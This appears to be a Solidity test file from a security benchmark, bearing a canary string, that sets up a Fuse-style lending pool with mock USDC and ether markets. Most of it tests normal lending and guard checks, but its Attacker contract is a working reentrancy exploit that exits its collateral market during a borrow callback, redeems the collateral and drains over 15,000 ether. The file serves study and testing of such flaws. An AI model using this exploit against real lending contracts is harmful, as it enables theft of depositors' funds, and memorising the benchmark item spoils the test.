// SPDX-License-Identifier: BSD-3-Clause
pragma solidity 0.6.12;

import "./FusePool.sol";

// assay-canary-a64f5ffa-cfd1-46c5-b5d5-b2b3ce4fb90c

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Usdc is IERC20 {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten(bool on) external {
        require(msg.sender == minter, "minter only");
        silent = on;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        if (silent) return false;
        require(balanceOf[msg.sender] >= amount, "balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        if (silent) return false;
        require(balanceOf[from] >= amount && allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A user whose wallet is a contract, and which looks at the market while it is paid.
contract Wallet {
    CEther internal fEth;
    bool public redeemed;
    bool public borrowed;

    constructor(CEther fEth_) public payable {
        fEth = fEth_;
        fEth_.mint{value: msg.value}();
        fEth_.comptroller().enterMarket(address(fEth_));
    }

    function run() external {
        fEth.redeem(1 ether);
    }

    receive() external payable {
        (redeemed, ) = address(fEth).call(abi.encodeWithSelector(fEth.redeem.selector, 1));
        (borrowed, ) = address(fEth).call(abi.encodeWithSelector(fEth.borrow.selector, 1));
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Comptroller internal comptroller;
    Usdc internal usdc;
    CErc20 internal fUsdc;
    CEther internal fEth;
    Attacker internal thief;

    function setUp() public {
        usdc = new Usdc();
        comptroller = new Comptroller();
        fUsdc = new CErc20(comptroller, usdc);
        fEth = new CEther(comptroller);
        comptroller.supportMarket(fUsdc, 8e17, 4e26); // 2,500 dollars for an ether
        comptroller.supportMarket(fEth, 75e16, 1e18);
        vm.deal(ANA, 30_000 ether);
        vm.startPrank(ANA);
        fEth.mint{value: 28_000 ether}();
        comptroller.enterMarket(address(fEth));
        vm.stopPrank();
        give(BEN, 5_000_000e6);
        vm.prank(BEN);
        fUsdc.mint(4_000_000e6);
        thief = new Attacker(comptroller, fUsdc, fEth, usdc);
        usdc.mint(address(thief), 50_000_000e6);
    }

    function give(address who, uint256 amount) internal {
        usdc.mint(who, amount);
        vm.prank(who);
        usdc.approve(address(fUsdc), uint256(-1));
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        fUsdc.borrow(1_000_000e6);
        require(usdc.balanceOf(ANA) == 1_000_000e6 && fUsdc.totalBorrows() == 1_000_000e6, "dollars");
        usdc.approve(address(fUsdc), uint256(-1));
        fUsdc.repayBorrow(1_000_000e6);
        fEth.redeem(1_000 ether);
        require(ANA.balance == 3_000 ether, "ether");
        vm.stopPrank();

        vm.startPrank(BEN);
        comptroller.enterMarket(address(fUsdc));
        fEth.borrow(100 ether);
        require(BEN.balance == 100 ether, "ether lent");
        fEth.repayBorrow{value: 100 ether}();
        comptroller.exitMarket(address(fUsdc));
        fUsdc.redeem(4_000_000e6);
        require(usdc.balanceOf(BEN) == 5_000_000e6, "all back");
        vm.stopPrank();
        comptroller.setPrice(address(fUsdc), 5e26);
        (, , uint256 price) = comptroller.marketInfo(address(fUsdc));
        require(price == 5e26, "price");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("fuse: admin only");
        comptroller.supportMarket(CToken(ANA), 0, 0);
        vm.expectRevert("fuse: admin only");
        comptroller.setPrice(address(fEth), 0);
        vm.stopPrank();
        vm.expectRevert("fuse: already listed");
        comptroller.supportMarket(fEth, 0, 0);
        vm.expectRevert("fuse: factor");
        comptroller.supportMarket(CToken(ANA), 9e17 + 1, 0);
        vm.expectRevert("fuse: not listed");
        comptroller.enterMarket(ANA);
    }

    function test_RefusesDebtWithoutCollateral() public {
        vm.startPrank(BEN);
        vm.expectRevert("fuse: borrow not allowed");
        fEth.borrow(1);
        comptroller.enterMarket(address(fUsdc));
        vm.expectRevert("fuse: borrow not allowed");
        fEth.borrow(1_281 ether);
        fEth.borrow(1_280 ether);
        vm.expectRevert("fuse: redeem not allowed");
        fUsdc.redeem(1e6);
        vm.expectRevert("fuse: collateral is needed");
        comptroller.exitMarket(address(fUsdc));
        vm.expectRevert("fuse: you owe here");
        comptroller.exitMarket(address(fEth));
        vm.deal(BEN, 2_000 ether);
        vm.expectRevert("fuse: too much");
        fEth.repayBorrow{value: 1_280 ether + 1}();
        vm.stopPrank();
        vm.prank(ANA);
        vm.expectRevert("fuse: not that many");
        fUsdc.redeem(1);
    }

    function test_RefusesUnlistedMarkets() public {
        CErc20 other = new CErc20(comptroller, usdc);
        vm.prank(ANA);
        vm.expectRevert("fuse: borrow not allowed");
        other.borrow(0);
    }

    function test_RefusesWhatDoesNotMove() public {
        fEth.mint{value: 0}();
        vm.deal(address(this), 1);
        fEth.mint{value: 1}();
        vm.expectRevert("fuse: ether out");
        fEth.redeem(1);
        usdc.quieten(true);
        vm.expectRevert("fuse: token in");
        fUsdc.mint(1);
        vm.expectRevert("fuse: token in");
        fUsdc.repayBorrow(0);
        vm.prank(BEN);
        vm.expectRevert("fuse: token out");
        fUsdc.redeem(1);
    }

    function test_RefusesOneMarketTwiceAtOnce() public {
        vm.deal(address(this), 10 ether);
        Wallet wallet = new Wallet{value: 10 ether}(fEth);
        wallet.run();
        require(!wallet.redeemed() && !wallet.borrowed() && address(wallet).balance == 1 ether, "entered twice");
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = poolHolds();
        exploit();
        require(poolHolds() + 15_000 ether <= before, "nothing lost");
    }

    /// What all markets hold together, in wei at the first price of the dollar.
    function poolHolds() public view returns (uint256) {
        return address(fEth).balance + usdc.balanceOf(address(fUsdc)) * 4e8;
    }

    function target() public view returns (address) {
        return address(fEth);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Leaves the market of its collateral while the ether it borrows arrives.
contract Attacker {
    Comptroller internal comptroller;
    CErc20 internal fUsdc;
    CEther internal fEth;
    Usdc internal usdc;

    constructor(Comptroller comptroller_, CErc20 fUsdc_, CEther fEth_, Usdc usdc_) public {
        comptroller = comptroller_;
        fUsdc = fUsdc_;
        fEth = fEth_;
        usdc = usdc_;
    }

    receive() external payable {
        comptroller.exitMarket(address(fUsdc));
    }

    function run() external {
        usdc.approve(address(fUsdc), uint256(-1));
        fUsdc.mint(50_000_000e6);
        comptroller.enterMarket(address(fUsdc));
        fEth.borrow(15_500 ether);
        fUsdc.redeem(50_000_000e6);
    }
}
